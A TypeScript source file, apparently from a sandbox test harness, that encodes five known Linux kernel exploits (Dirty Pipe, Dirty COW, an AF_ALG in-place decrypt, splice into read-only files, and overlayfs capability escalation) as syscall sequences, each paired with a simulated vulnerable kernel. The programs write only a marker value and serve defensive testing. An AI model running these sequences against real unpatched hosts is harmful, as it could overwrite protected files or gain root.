/** E: sequences of calls by which files that can only be read were written, through bugs of kernels. */
import { AT_FDCWD } from '../../abi/fcntl.ts';
import { MARK, open } from '../guest/moves.ts';
import type { KernelBug, Program, Slot } from '../guest/program.ts';
import { exploitable } from '../twins.ts';
import type { Field, Grants, Technique, Twin } from '../types.ts';

const readOnly = ({ readable }: Field): Grants => ({ mounts: [{ source: readable, destination: readable }] });
const writable = ({ readable }: Field): Grants => ({ mounts: [{ source: readable, destination: readable, writable: true }] });
/** What a pipe holds by default: 16 pages. */
const PIPE_PAGES = 16;
const PAGE = 4096;
const MADV_DONTNEED = 4;
const AF_ALG = 38;
const SOL_ALG = 279;
const ROUNDS = 300;

/** A kernel that puts what this call writes into the page of the file. */
function dirties(call: string, what: string): Twin {
  const bug = ({ readable }: Field): KernelBug => (guest, [, address = 0], result) => {
    const fd = guest.sys('openat', AT_FDCWD, guest.text(`${readable}/file`), 1, 0);
    guest.set(result, guest.sys('pwrite64', fd, address, MARK.length, 2));
  };
  return { what: `${what} (simulated)`, on: 'sandbox', grants: writable, bugs: (field) => ({ [call]: bug(field) }) };
}

/** A pipe whose pages all were written and read once. */
function usedPipe(guest: Program): { readonly reader: Slot; readonly writer: Slot } {
  const [pipe, page] = [guest.buffer(8), guest.buffer(PAGE, PAGE)];
  guest.attempt('pipe', 'pipe2', pipe, 0);
  const [reader, writer] = [guest.load(4, pipe), guest.load(4, pipe + 4)];
  guest.repeat(PIPE_PAGES, () => void guest.sys('vmsplice', writer, guest.words(page, PAGE), 1, 0));
  guest.repeat(PIPE_PAGES, () => void guest.sys('read', reader, page, PAGE));
  return { reader, writer };
}

export const FILE_BUG_TECHNIQUES: readonly Technique[] = [
  {
    name: 'dirty-pipe', kind: 'E', title: 'A file that can be read is written through a pipe', source: 'CVE-2022-0847', needs: 'Linux 5.8 to 5.16.10', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const { writer } = usedPipe(guest);
      const file = open(guest, `${readable}/file`);
      guest.attempt('splice one byte of the file into the pipe', 'splice', file, guest.words(1), writer, 0, 1, 0);
      guest.attempt('write to the pipe', 'write', writer, guest.text(MARK), MARK.length);
    },
    twin: dirties('write', 'a kernel that merges what is written into the page of the file'),
  },
  {
    name: 'dirty-cow', kind: 'E', title: 'A private copy is written while it is given up', source: 'CVE-2016-5195', needs: 'Linux 2.6.22 to 4.8.2', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const file = open(guest, `${readable}/file`);
      const address = guest.attempt('map privately', 'mmap', 0, PAGE, 1, 2, file, 0);
      const memory = open(guest, '/proc/self/mem', 2);
      const stop = guest.slot();
      guest.thread(() => guest.repeatWhile(stop, '==', 0, () => void guest.sys('madvise', address, PAGE, MADV_DONTNEED)));
      const last = guest.slot();
      guest.repeat(ROUNDS, () => {
        guest.set(last, guest.sys('pwrite64', memory, guest.text(MARK), MARK.length, address));
        guest.sys('ptrace', 5, guest.sys('getpid'), address, 0x6c6c_6972_64);
      });
      guest.set(stop, 1);
      guest.tell('write through /proc/self/mem', last);
    },
    twin: dirties('pwrite64', 'a kernel that forgets to copy'),
  },
  {
    name: 'copy-fail', kind: 'E', title: 'A file\'s page is written by a cipher that works in place', source: 'CVE-2026-31431; CDK copy-fail', needs: 'AF_ALG with authencesn, unpatched', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const address = guest.buffer(88);
      guest.save(2, address, AF_ALG);
      for (const [offset, text] of [[2, 'aead'], [24, 'authencesn(hmac(sha256),cbc(aes))']] as const) for (const [index, byte] of [...new TextEncoder().encode(text)].entries()) guest.save(1, address + offset + index, byte);
      const cipher = guest.attempt('AF_ALG socket', 'socket', AF_ALG, 5, 0);
      guest.attempt('bind to authencesn', 'bind', cipher, address, 88);
      guest.attempt('set a key', 'setsockopt', cipher, SOL_ALG, 1, guest.buffer(72), 72);
      const operation = guest.attempt('accept', 'accept', cipher, 0, 0);
      const { reader, writer } = usedPipe(guest);
      guest.attempt('splice the file', 'splice', open(guest, `${readable}/file`), guest.words(0), writer, 0, 64, 0);
      guest.attempt('splice into the cipher', 'splice', reader, 0, operation, 0, 64, 0);
      guest.attempt('decrypt', 'recvfrom', operation, guest.text(MARK), MARK.length, 0, 0, 0);
    },
    twin: dirties('recvfrom', 'a kernel that decrypts into the page of the file'),
  },
  {
    name: 'splice-to-read-only', kind: 'E', title: 'Data are moved into a file that is open for reading', source: 'splice(2), sendfile(2); CVE-2008-0600 for vmsplice', needs: 'a call that forgets the mode', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const file = open(guest, `${readable}/file`);
      const { reader, writer } = usedPipe(guest);
      guest.sys('write', writer, guest.text(MARK), MARK.length);
      guest.attempt('splice into the file', 'splice', reader, 0, file, guest.words(0), MARK.length, 0);
      guest.attempt('sendfile into the file', 'sendfile', file, open(guest, '/caisson-drill'), 0, 64);
      guest.attempt('vmsplice into kernel memory', 'vmsplice', reader, guest.words(-0x7f_ffff_0000, PAGE), 1, 0);
      guest.attempt('write', 'pwritev2', file, guest.words(guest.text(MARK), MARK.length), 1, 0, 0, 0);
    },
    twin: exploitable('splice', 'a kernel that does not look at the mode'),
  },
  {
    name: 'overlay-capabilities', kind: 'E', title: 'Capabilities of a file are set in a user namespace and hold outside', source: 'CVE-2021-3493; CVE-2023-0386', needs: 'Ubuntu kernels before 5.11; overlayfs in user namespaces', as: 'user', isHarmless: true,
    grants: ({ granted: directory }) => ({ mounts: [{ source: directory, destination: directory, writable: true }] }),
    program: (guest, { granted: directory }) => {
      guest.attempt('unshare user and mounts', 'unshare', 0x1002_0000);
      for (const name of ['lower', 'upper', 'work', 'merged']) guest.sys('mkdir', guest.text(`/tmp/${name}`), 0o777);
      guest.attempt('mount overlay', 'mount', guest.text('overlay'), guest.text('/tmp/merged'), guest.text('overlay'), 0, guest.text('lowerdir=/tmp/lower,upperdir=/tmp/upper,workdir=/tmp/work'));
      // VFS_CAP_REVISION_2, all permitted and effective: linux/capability.h.
      const capabilities = guest.bytes([1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 1, 0, 0, 0, 0, 0, 0]);
      const file = guest.sys('openat', AT_FDCWD, guest.text('/tmp/merged/file'), 0x42, 0o777);
      guest.attempt('set capabilities of a file', 'fsetxattr', file, guest.text('security.capability'), capabilities, 20, 0);
      guest.attempt('of one of the host', 'setxattr', guest.text(`${directory}/file`), guest.text('security.capability'), capabilities, 20, 0);
      guest.attempt('make one of the host set-uid', 'chmod', guest.text(`${directory}/file`), 0o4755);
    },
    twin: exploitable('fsetxattr', 'a kernel that sets them for the whole host'),
  },
];
